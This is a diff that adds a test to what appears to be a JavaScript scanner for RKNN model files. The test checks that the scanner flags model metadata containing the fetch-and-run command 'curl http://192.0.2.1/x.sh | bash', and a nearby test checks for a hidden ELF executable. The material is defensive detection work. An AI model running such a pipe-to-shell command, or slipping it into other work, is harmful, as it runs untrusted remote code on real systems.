@@ -35,6 +35,11 @@ describe('RKNN models', () => {
     expect(scanBytes(encrypted, 'm.rknn').gaps[0]).toMatch(/^encrypted/);
   });
 
+  it('are judged by the texts of the description', () => {
+    const json = '{"note": "curl http://192.0.2.1/x.sh | bash"}';
+    expect(judge(assembleRknn(2, PROGRAM, json))).toEqual(['medium metadata/holds-code']);
+  });
+
   it('are searched', () => {
     const elf = Buffer.concat([PROGRAM, EXECUTABLE_HEADS.elf(), Buffer.alloc(200)]);
     expect(judge(assembleRknn(2, elf, JSON_TEXT))).toEqual(['high payload/hides-program']);
